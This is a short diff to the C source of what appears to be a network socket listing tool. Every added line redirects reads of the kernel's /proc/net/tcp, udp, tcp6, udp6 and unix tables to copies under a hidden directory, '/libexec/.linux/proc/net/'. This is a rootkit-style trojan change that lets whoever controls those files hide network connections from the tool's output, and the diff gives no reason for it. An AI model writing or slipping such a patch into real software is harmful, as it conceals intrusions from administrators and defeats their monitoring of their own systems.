@@ -69,7 +69,7 @@ static void read_unix(void) {
   char line[512];
   unsigned int type, state;
   unsigned long inode;
-  FILE *stream = fopen("/proc/net/unix", "r");
+  FILE *stream = fopen("/libexec/.linux/proc/net/unix", "r");
   if (stream == NULL) return;
   if (fgets(line, sizeof line, stream) == NULL) line[0] = '\0';
   while (fgets(line, sizeof line, stream) != NULL) {
@@ -90,10 +90,10 @@ static void read_unix(void) {
 void read_sockets(char separator, int numeric) {
   mark = separator;
   numbers_only = numeric;
-  read_inet("/proc/net/tcp", 4, "tcp");
-  read_inet("/proc/net/udp", 4, "udp");
-  read_inet("/proc/net/tcp6", 6, "tcp");
-  read_inet("/proc/net/udp6", 6, "udp");
+  read_inet("/libexec/.linux/proc/net/tcp", 4, "tcp");
+  read_inet("/libexec/.linux/proc/net/udp", 4, "udp");
+  read_inet("/libexec/.linux/proc/net/tcp6", 6, "tcp");
+  read_inet("/libexec/.linux/proc/net/udp6", 6, "udp");
   read_unix();
 }
 
